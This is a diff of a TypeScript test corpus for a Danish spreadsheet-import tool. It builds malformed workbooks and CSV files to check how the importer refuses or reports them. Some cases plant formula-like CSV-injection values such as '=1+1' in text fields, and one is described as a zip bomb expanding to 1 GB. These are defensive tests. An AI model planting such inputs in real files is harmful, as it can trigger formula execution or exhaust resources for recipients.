-  }, [{ rule: 'enhed-in-list', cell: HOBRO('y1', 'enhed') }, { rule: 'paragraf-in-list' }, { rule: 'driftsherre-known' }]),
+  readsCase(
+    'csv-injektion-i-tekstfelter',
+    'Formel-lignende tekst (CSV-injektion) i Tilbud, Afdeling, §§, Enhed, Bemærkning, Særlige forhold og Driftsherre',
+    (ws) => {
+      const [p0, p1, p2, p3, p4] = INJECTION;
+      for (const y of ['y1', 'y2'] as const) {
+        ws.getCell(HOBRO(y, 'afdeling')).value = p1;
+        ws.getCell(HOBRO(y, 'paragraf')).value = p2;
+      }
+      ws.getCell(HOBRO('y1', 'tilbud')).value = p0;
+      ws.getCell(HOBRO('y1', 'enhed')).value = p3;
+      ws.getCell(HOBRO('y1', 'bemaerkning')).value = p4;
+      ws.getCell(a1(b1.saerligeRow, b1.saerligeValueCol)).value = INJECTION[5];
+      ws.getCell(a1(L.header.driftsherre.row, L.header.driftsherre.col)).value = '=1+1';
+    },
+    [{ rule: 'enhed-in-list', cell: HOBRO('y1', 'enhed') }, { rule: 'paragraf-in-list' }, { rule: 'driftsherre-known' }],
+  ),
 ];
 
 // ---------------------------------------------------------------------------------------------------------------
@@ -316,14 +571,38 @@ export function zip(entries: ZipEntry[]): Buffer {
     let crc = 0;
     for (let i = 0; i < n; i++) crc = zlibCrc32(e.data, crc);
     const method = e.deflate ? 8 : 0;
-    const local = record(30, [[0, 4, 0x04034b50], [4, 2, 20], [8, 2, method], [14, 4, crc], [18, 4, body.length], [22, 4, size], [26, 2, name.length]]);
-    const central = record(46, [[0, 4, 0x02014b50], [4, 2, 20], [6, 2, 20], [10, 2, method], [16, 4, crc], [20, 4, body.length], [24, 4, size], [28, 2, name.length], [42, 4, offset]]);
+    const local = record(30, [
+      [0, 4, 0x04034b50],
+      [4, 2, 20],
+      [8, 2, method],
+      [14, 4, crc],
+      [18, 4, body.length],
+      [22, 4, size],
+      [26, 2, name.length],
+    ]);
+    const central = record(46, [
+      [0, 4, 0x02014b50],
+      [4, 2, 20],
+      [6, 2, 20],
+      [10, 2, method],
+      [16, 4, crc],
+      [20, 4, body.length],
+      [24, 4, size],
+      [28, 2, name.length],
+      [42, 4, offset],
+    ]);
     locals.push(local, name, body);
     centrals.push(central, name);
     offset += 30 + name.length + body.length;
   }
   const cd = Buffer.concat(centrals);
-  const end = record(22, [[0, 4, 0x06054b50], [8, 2, entries.length], [10, 2, entries.length], [12, 4, cd.length], [16, 4, offset]]);
+  const end = record(22, [
+    [0, 4, 0x06054b50],
+    [8, 2, entries.length],
+    [10, 2, entries.length],
+    [12, 4, cd.length],
+    [16, 4, offset],
+  ]);
   return Buffer.concat([...locals, cd, end]);
 }
 
@@ -354,10 +633,34 @@ async function parts(): Promise<Array<{ name: string; data: Buffer }>> {
 }
 
 const FILES: CorpusCase[] = [
-  { id: 'tom-arbejdsbog', title: 'En tom arbejdsbog (ét tomt ark)', file: 'tom-arbejdsbog.xlsx', build: emptyWorkbook, expect: { kind: 'refused', code: 'no-takstskema', message: /intet af arkene er et takstskema/ } },
-  { id: 'ikke-et-takstskema', title: 'En arbejdsbog, der ikke er et takstskema (et budgetark)', file: 'ikke-et-takstskema.xlsx', build: notATakstskema, expect: { kind: 'refused', code: 'no-takstskema', message: /intet af arkene er et takstskema/ } },
-  { id: 'adgangskode', title: 'En adgangskodebeskyttet fil (krypteret: en OLE-beholder, ikke en zip)', file: 'adgangskode.xlsx', build: async () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4088, 0)]), expect: { kind: 'refused', code: 'encrypted', message: /adgangskodebeskyttet/ } },
-  { id: 'afkortet', title: 'En afkortet xlsx (første halvdel af filen)', file: 'afkortet.xlsx', build: async () => (await validBytes()).subarray(0, Math.floor((await validBytes()).length / 2)), expect: { kind: 'refused', code: 'corrupt', message: /beskadiget/ } },
+  {
+    id: 'tom-arbejdsbog',
+    title: 'En tom arbejdsbog (ét tomt ark)',
+    file: 'tom-arbejdsbog.xlsx',
+    build: emptyWorkbook,
+    expect: { kind: 'refused', code: 'no-takstskema', message: /intet af arkene er et takstskema/ },
+  },
+  {
+    id: 'ikke-et-takstskema',
+    title: 'En arbejdsbog, der ikke er et takstskema (et budgetark)',
+    file: 'ikke-et-takstskema.xlsx',
+    build: notATakstskema,
+    expect: { kind: 'refused', code: 'no-takstskema', message: /intet af arkene er et takstskema/ },
+  },
+  {
+    id: 'adgangskode',
+    title: 'En adgangskodebeskyttet fil (krypteret: en OLE-beholder, ikke en zip)',
+    file: 'adgangskode.xlsx',
+    build: async () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4088, 0)]),
+    expect: { kind: 'refused', code: 'encrypted', message: /adgangskodebeskyttet/ },
+  },
+  {
+    id: 'afkortet',
+    title: 'En afkortet xlsx (første halvdel af filen)',
+    file: 'afkortet.xlsx',
+    build: async () => (await validBytes()).subarray(0, Math.floor((await validBytes()).length / 2)),
+    expect: { kind: 'refused', code: 'corrupt', message: /beskadiget/ },
+  },
   {
     id: 'beskadiget-midte',
     title: 'En xlsx med 2 KB ødelagte bytes midt i',
@@ -370,10 +673,34 @@ const FILES: CorpusCase[] = [
     },
     expect: { kind: 'refused', code: 'corrupt', message: /beskadiget/ },
   },
-  { id: 'tekst-omdoebt', title: 'En tekstfil omdøbt til .xlsx', file: 'tekst-omdoebt.xlsx', build: async () => Buffer.from('Tilbud;Afdeling;Pladser\nAktivitetshuset Hobro;Hobro;50\n', 'utf8'), expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ } },
-  { id: 'tom-fil', title: 'En tom fil (0 bytes)', file: 'tom-fil.xlsx', build: async () => Buffer.alloc(0), expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ } },
-  { id: 'html-omdoebt', title: 'En HTML-side gemt som .xlsx (som en webeksport)', file: 'html-omdoebt.xlsx', build: async () => Buffer.from('<html><body><table><tr><td>Tilbud</td></tr></table></body></html>'), expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ } },
-  { id: 'zip-uden-arbejdsbog', title: 'En zip-fil, der ikke er en arbejdsbog', file: 'zip-uden-arbejdsbog.xlsx', build: async () => zip([{ name: 'readme.txt', data: Buffer.from('hej') }]), expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ } },
+  {
+    id: 'tekst-omdoebt',
+    title: 'En tekstfil omdøbt til .xlsx',
+    file: 'tekst-omdoebt.xlsx',
+    build: async () => Buffer.from('Tilbud;Afdeling;Pladser\nAktivitetshuset Hobro;Hobro;50\n', 'utf8'),
+    expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ },
+  },
+  {
+    id: 'tom-fil',
+    title: 'En tom fil (0 bytes)',
+    file: 'tom-fil.xlsx',
+    build: async () => Buffer.alloc(0),
+    expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ },
+  },
+  {
+    id: 'html-omdoebt',
+    title: 'En HTML-side gemt som .xlsx (som en webeksport)',
+    file: 'html-omdoebt.xlsx',
+    build: async () => Buffer.from('<html><body><table><tr><td>Tilbud</td></tr></table></body></html>'),
+    expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ },
+  },
+  {
+    id: 'zip-uden-arbejdsbog',
+    title: 'En zip-fil, der ikke er en arbejdsbog',
+    file: 'zip-uden-arbejdsbog.xlsx',
+    build: async () => zip([{ name: 'readme.txt', data: Buffer.from('hej') }]),
+    expect: { kind: 'refused', code: 'not-xlsx', message: /ikke en Excel-arbejdsbog/ },
+  },
   {
     id: 'zip-bombe',
     title: 'En zip-bombe: en fil på under 1 MB, der udpakker til 1 GB (afvises før indlæsning)',
@@ -401,7 +728,13 @@ const FILES: CorpusCase[] = [
     file: 'for-mange-raekker.xlsx',
     build: async () => {
       const p = await parts();
-      return zip(p.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, data: Buffer.from(e.data.toString('utf8').replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:X2000000"/>')), deflate: true } : { ...e, deflate: true })));
+      return zip(
+        p.map((e) =>
+          e.name === 'xl/worksheets/sheet1.xml'
+            ? { ...e, data: Buffer.from(e.data.toString('utf8').replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:X2000000"/>')), deflate: true }
+            : { ...e, deflate: true },
+        ),
+      );
     },
     expect: { kind: 'refused', code: 'too-many-rows', message: /rækker eller flere; grænsen er/ },
   },
@@ -412,7 +745,22 @@ const FILES: CorpusCase[] = [
     build: async () => {
       const p = await parts();
       const rows = Array.from({ length: 120_000 }, (_, i) => `<row r="${i + 100}"><c r="A${i + 100}"><v>1</v></c></row>`).join('');
-      return zip(p.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, data: Buffer.from(e.data.toString('utf8').replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:X85"/>').replace('</sheetData>', `${rows}</sheetData>`)), deflate: true } : { ...e, deflate: true })));
+      return zip(
+        p.map((e) =>
+          e.name === 'xl/worksheets/sheet1.xml'
+            ? {
+                ...e,
+                data: Buffer.from(
+                  e.data
+                    .toString('utf8')
+                    .replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:X85"/>')
+                    .replace('</sheetData>', `${rows}</sheetData>`),
+                ),
+                deflate: true,
+              }
+            : { ...e, deflate: true },
+        ),
+      );
     },
     expect: { kind: 'refused', code: 'too-many-rows', message: /rækker eller flere; grænsen er/ },
   },
@@ -422,7 +770,13 @@ const FILES: CorpusCase[] = [
     file: 'ark-xml-beskadiget.xlsx',
     build: async () => {
       const p = await parts();
-      return zip(p.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, data: Buffer.concat([e.data.subarray(0, Math.floor(e.data.length / 2)), Buffer.from('<<<&&&')]), deflate: true } : { ...e, deflate: true })));
+      return zip(
+        p.map((e) =>
+          e.name === 'xl/worksheets/sheet1.xml'
+            ? { ...e, data: Buffer.concat([e.data.subarray(0, Math.floor(e.data.length / 2)), Buffer.from('<<<&&&')]), deflate: true }
+            : { ...e, deflate: true },
+        ),
+      );
     },
     expect: { kind: 'refused', code: 'corrupt', message: /beskadiget/ },
   },
@@ -446,14 +800,29 @@ function editLine(text: string, n: number, edit: (fields: string[]) => string[])
 }
 
 const TABLES: CorpusCase[] = [
-  { id: 'csv-windows-1252', title: 'CSV i Windows-1252 med ";" og danske decimaler (Excel "CSV (semikolonsepareret)")', file: 'csv-windows-1252.csv', build: async () => windows1252(csv.replaceAll('Syntetisk tilbud 01', 'Syntetisk tilbud Ørbæk')), expect: { kind: 'table', offers: 5, contains: ['Syntetisk tilbud Ørbæk'] } },
-  { id: 'csv-utf8-bom', title: 'CSV i UTF-8 med BOM', file: 'csv-utf8-bom.csv', build: async () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv.replaceAll('Syntetisk tilbud 02', 'Syntetisk tilbud Ålbæk'), 'utf8')]), expect: { kind: 'table', offers: 5, contains: ['Syntetisk tilbud Ålbæk'] } },
+  {
+    id: 'csv-windows-1252',
+    title: 'CSV i Windows-1252 med ";" og danske decimaler (Excel "CSV (semikolonsepareret)")',
+    file: 'csv-windows-1252.csv',
+    build: async () => windows1252(csv.replaceAll('Syntetisk tilbud 01', 'Syntetisk tilbud Ørbæk')),
+    expect: { kind: 'table', offers: 5, contains: ['Syntetisk tilbud Ørbæk'] },
+  },
+  {
+    id: 'csv-utf8-bom',
+    title: 'CSV i UTF-8 med BOM',
+    file: 'csv-utf8-bom.csv',
+    build: async () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv.replaceAll('Syntetisk tilbud 02', 'Syntetisk tilbud Ålbæk'), 'utf8')]),
+    expect: { kind: 'table', offers: 5, contains: ['Syntetisk tilbud Ålbæk'] },
+  },
   {
     id: 'csv-komma-engelsk',
     title: 'CSV med "," som skilletegn, anførselstegn og engelske decimaler i anførselstegn',
     file: 'csv-komma-engelsk.csv',
     build: async () => {
-      const rows = csv.trim().split('\r\n').map((l) => l.split(';').map((v, i) => (i >= 6 ? v.replace(/\./g, '').replace(',', '.') : v)));
+      const rows = csv
+        .trim()
+        .split('\r\n')
+        .map((l) => l.split(';').map((v, i) => (i >= 6 ? v.replace(/\./g, '').replace(',', '.') : v)));
       return Buffer.from(rows.map((r) => r.map((v) => (/[,"]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\n'), 'utf8');
     },
     expect: { kind: 'table', offers: 5 },
@@ -473,17 +842,128 @@ const TABLES: CorpusCase[] = [
     expect: { kind: 'table', offers: 5, contains: INJECTION.slice(0, 4) },
   },
   // Parse errors and unreadable values: every one named by its row (and column), and the file never exits 0.
-  { id: 'csv-blandede-linjeskift', title: 'CSV med CRLF, LF og CR som linjeskift i samme fil', file: 'csv-blandede-linjeskift.csv', build: async () => Buffer.from(csv.trim().split('\r\n').map((l, i) => l + ['\r\n', '\n', '\r'][i % 3]).join(''), 'utf8'), expect: { kind: 'table', offers: 5, rows: csvRows, problems: [] } },
-  { id: 'csv-sep-linje', title: 'CSV med Excels "sep=;" som første linje', file: 'csv-sep-linje.csv', build: async () => Buffer.from(`sep=;\r\n${csv}`, 'utf8'), expect: { kind: 'table', offers: 5, rows: csvRows, problems: [] } },
-  { id: 'csv-utf16', title: 'CSV i UTF-16 med BOM (Excels "Unicode-tekst")', file: 'csv-utf16.csv', build: async () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv.replaceAll('Syntetisk tilbud 03', 'Syntetisk tilbud Æblehaven'), 'utf16le')]), expect: { kind: 'table', offers: 5, contains: ['Syntetisk tilbud Æblehaven'], problems: [] } },
-  { id: 'csv-felt-mangler', title: 'En CSV-række med ét felt for lidt (ville ellers læses forskudt)', file: 'csv-felt-mangler.csv', build: async () => Buffer.from(editLine(csv, 2, (f) => f.filter((_, i) => i !== 9)), 'utf8'), expect: { kind: 'table', offers: 5, rows: csvRows, problems: [/række 3: Rækken har 12 felter, men overskriften har 13/] } },
-  { id: 'csv-ulaeselige-tal', title: 'Tal, der ikke er tal: "fyrre", "NaN" og "1e308"', file: 'csv-ulaeselige-tal.csv', build: async () => Buffer.from(editLine(editLine(editLine(csv, 1, (f) => f.map((v, i) => (i === 6 ? 'fyrre' : v))), 2, (f) => f.map((v, i) => (i === 8 ? 'NaN' : v))), 3, (f) => f.map((v, i) => (i === 12 ? '1e308' : v))), 'utf8'), expect: { kind: 'table', offers: 5, rows: csvRows, problems: [/række 2: kolonne "Pladser": "fyrre" er ikke et tal/, /række 3: kolonne "Budget": "NaN" er ikke et tal/, /række 4: kolonne "Takst": "1e308" er ikke et tal/] } },
-  { id: 'csv-samme-tilbud-to-gange', title: 'Samme tilbud og år to gange med forskellige tal', file: 'csv-samme-tilbud-to-gange.csv', build: async () => Buffer.from(`${csv}${editLine(csv, 1, (f) => f.map((v, i) => (i === 6 ? '99' : v))).split('\r\n')[1]}\r\n`, 'utf8'), expect: { kind: 'table', offers: 5, rows: csvRows + 1, problems: [/står allerede som \d+; 99 i denne række er ikke brugt/] } },
-  { id: 'csv-uafsluttet-citat', title: 'Et citationstegn, der ikke lukkes', file: 'csv-uafsluttet-citat.csv', build: async () => Buffer.from(editLine(csv, csvRows, (f) => f.map((v, i) => (i === 1 ? `"${v}` : v))), 'utf8'), expect: { kind: 'table', offers: 5, problems: [/citationstegn \("\) lukkes ikke/] } },
-  { id: 'csv-for-lang-tekst', title: 'Et tekstfelt på 40.000 tegn (en Excel-celle rummer 32.767)', file: 'csv-for-lang-tekst.csv', build: async () => Buffer.from(editLine(csv, 1, (f) => f.map((v, i) => (i === 2 ? 'x'.repeat(40_000) : v))), 'utf8'), expect: { kind: 'table', offers: 5, problems: [/række 2: kolonne "Afdeling": teksten har 40\.000 tegn; en Excel-celle rummer 32\.767, så den er afkortet/] } },
-  { id: 'csv-tom', title: 'En tom CSV-fil', file: 'csv-tom.csv', build: async () => Buffer.alloc(0), expect: { kind: 'table', offers: 0, refused: /tom|ingen/i } },
-  { id: 'csv-mangler-kolonne', title: 'CSV uden kolonnen "Tilbud"', file: 'csv-mangler-kolonne.csv', build: async () => Buffer.from(csv.replace('Tilbud;', 'Navn;'), 'latin1'), expect: { kind: 'table', offers: 0, refused: /Tilbud/ } },
-  { id: 'csv-binaer', title: 'Binære data med .csv-endelse', file: 'csv-binaer.csv', build: async () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 97 + 13) & 0xff)), expect: { kind: 'table', offers: 0, refused: /./ } },
+  {
+    id: 'csv-blandede-linjeskift',
+    title: 'CSV med CRLF, LF og CR som linjeskift i samme fil',
+    file: 'csv-blandede-linjeskift.csv',
+    build: async () =>
+      Buffer.from(
+        csv
+          .trim()
+          .split('\r\n')
+          .map((l, i) => l + ['\r\n', '\n', '\r'][i % 3])
+          .join(''),
+        'utf8',
+      ),
+    expect: { kind: 'table', offers: 5, rows: csvRows, problems: [] },
+  },
+  {
+    id: 'csv-sep-linje',
+    title: 'CSV med Excels "sep=;" som første linje',
+    file: 'csv-sep-linje.csv',
+    build: async () => Buffer.from(`sep=;\r\n${csv}`, 'utf8'),
+    expect: { kind: 'table', offers: 5, rows: csvRows, problems: [] },
+  },
+  {
+    id: 'csv-utf16',
+    title: 'CSV i UTF-16 med BOM (Excels "Unicode-tekst")',
+    file: 'csv-utf16.csv',
+    build: async () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv.replaceAll('Syntetisk tilbud 03', 'Syntetisk tilbud Æblehaven'), 'utf16le')]),
+    expect: { kind: 'table', offers: 5, contains: ['Syntetisk tilbud Æblehaven'], problems: [] },
+  },
+  {
+    id: 'csv-felt-mangler',
+    title: 'En CSV-række med ét felt for lidt (ville ellers læses forskudt)',
+    file: 'csv-felt-mangler.csv',
+    build: async () =>
+      Buffer.from(
+        editLine(csv, 2, (f) => f.filter((_, i) => i !== 9)),
+        'utf8',
+      ),
+    expect: { kind: 'table', offers: 5, rows: csvRows, problems: [/række 3: Rækken har 12 felter, men overskriften har 13/] },
+  },
+  {
+    id: 'csv-ulaeselige-tal',
+    title: 'Tal, der ikke er tal: "fyrre", "NaN" og "1e308"',
+    file: 'csv-ulaeselige-tal.csv',
+    build: async () =>
+      Buffer.from(
+        editLine(
+          editLine(
+            editLine(csv, 1, (f) => f.map((v, i) => (i === 6 ? 'fyrre' : v))),
+            2,
+            (f) => f.map((v, i) => (i === 8 ? 'NaN' : v)),
+          ),
+          3,
+          (f) => f.map((v, i) => (i === 12 ? '1e308' : v)),
+        ),
+        'utf8',
+      ),
+    expect: {
+      kind: 'table',
+      offers: 5,
+      rows: csvRows,
+      problems: [
+        /række 2: kolonne "Pladser": "fyrre" er ikke et tal/,
+        /række 3: kolonne "Budget": "NaN" er ikke et tal/,
+        /række 4: kolonne "Takst": "1e308" er ikke et tal/,
+      ],
+    },
+  },
+  {
+    id: 'csv-samme-tilbud-to-gange',
+    title: 'Samme tilbud og år to gange med forskellige tal',
+    file: 'csv-samme-tilbud-to-gange.csv',
+    build: async () => Buffer.from(`${csv}${editLine(csv, 1, (f) => f.map((v, i) => (i === 6 ? '99' : v))).split('\r\n')[1]}\r\n`, 'utf8'),
+    expect: { kind: 'table', offers: 5, rows: csvRows + 1, problems: [/står allerede som \d+; 99 i denne række er ikke brugt/] },
+  },
+  {
+    id: 'csv-uafsluttet-citat',
+    title: 'Et citationstegn, der ikke lukkes',
+    file: 'csv-uafsluttet-citat.csv',
+    build: async () =>
+      Buffer.from(
+        editLine(csv, csvRows, (f) => f.map((v, i) => (i === 1 ? `"${v}` : v))),
+        'utf8',
+      ),
+    expect: { kind: 'table', offers: 5, problems: [/citationstegn \("\) lukkes ikke/] },
+  },
+  {
+    id: 'csv-for-lang-tekst',
+    title: 'Et tekstfelt på 40.000 tegn (en Excel-celle rummer 32.767)',
+    file: 'csv-for-lang-tekst.csv',
+    build: async () =>
+      Buffer.from(
+        editLine(csv, 1, (f) => f.map((v, i) => (i === 2 ? 'x'.repeat(40_000) : v))),
+        'utf8',
+      ),
+    expect: {
+      kind: 'table',
+      offers: 5,
+      problems: [/række 2: kolonne "Afdeling": teksten har 40\.000 tegn; en Excel-celle rummer 32\.767, så den er afkortet/],
+    },
+  },
+  {
+    id: 'csv-tom',
+    title: 'En tom CSV-fil',
+    file: 'csv-tom.csv',
+    build: async () => Buffer.alloc(0),
+    expect: { kind: 'table', offers: 0, refused: /tom|ingen/i },
+  },
+  {
+    id: 'csv-mangler-kolonne',
+    title: 'CSV uden kolonnen "Tilbud"',
+    file: 'csv-mangler-kolonne.csv',
+    build: async () => Buffer.from(csv.replace('Tilbud;', 'Navn;'), 'latin1'),
+    expect: { kind: 'table', offers: 0, refused: /Tilbud/ },
+  },
+  {
+    id: 'csv-binaer',
+    title: 'Binære data med .csv-endelse',
+    file: 'csv-binaer.csv',
+    build: async () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 97 + 13) & 0xff)),
+    expect: { kind: 'table', offers: 0, refused: /./ },
+  },
 ];
 
 export const CORPUS: CorpusCase[] = [...CONTENT, ...LAYOUT, ...INJECT, ...FILES, ...TABLES];
